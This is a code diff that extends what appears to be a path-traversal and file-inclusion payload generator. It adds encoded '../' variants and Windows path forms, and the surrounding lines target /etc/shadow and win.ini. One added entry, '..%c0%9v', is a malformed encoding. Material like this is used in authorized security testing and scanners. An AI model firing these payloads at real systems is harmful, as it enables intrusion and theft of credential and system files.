@@ -60,6 +60,10 @@ STEPS = (
     "%c0%ae%c0%ae/",
     "..%c0%af",
     "..%c1%9c",
+    "..%c0%2f",
+    "..%c1%af",
+    "..%c0%9v",
+    "..%uefc8",
     "%e0%80%ae%e0%80%ae/",
     "%u002e%u002e%u2215",
     "..%u2216",
@@ -106,7 +110,8 @@ def lfi_values() -> list[str]:
         out += ["/" + target + "%00", "/" + target + "%00.jpg"]
     for target in WINDOWS_TARGETS:
         back = target.replace("/", "\\")
-        out += ["c:\\" + back, "C:/" + target, "file:///c:/" + target, "\\\\?\\C:\\" + back, "C:\\\\" + back.replace("\\", "\\\\")]
+        out += ["%SYSTEMROOT%\\" + back.split("\\", 1)[-1] if back.startswith("windows") else "c:\\" + back,
+                "c:\\" + back, "C:/" + target, "file:///c:/" + target, "\\\\?\\C:\\" + back, "C:\\\\" + back.replace("\\", "\\\\")]
     out += [
         "\\\\localhost\\c$\\windows\\win.ini",
         "file://localhost/etc/shadow",
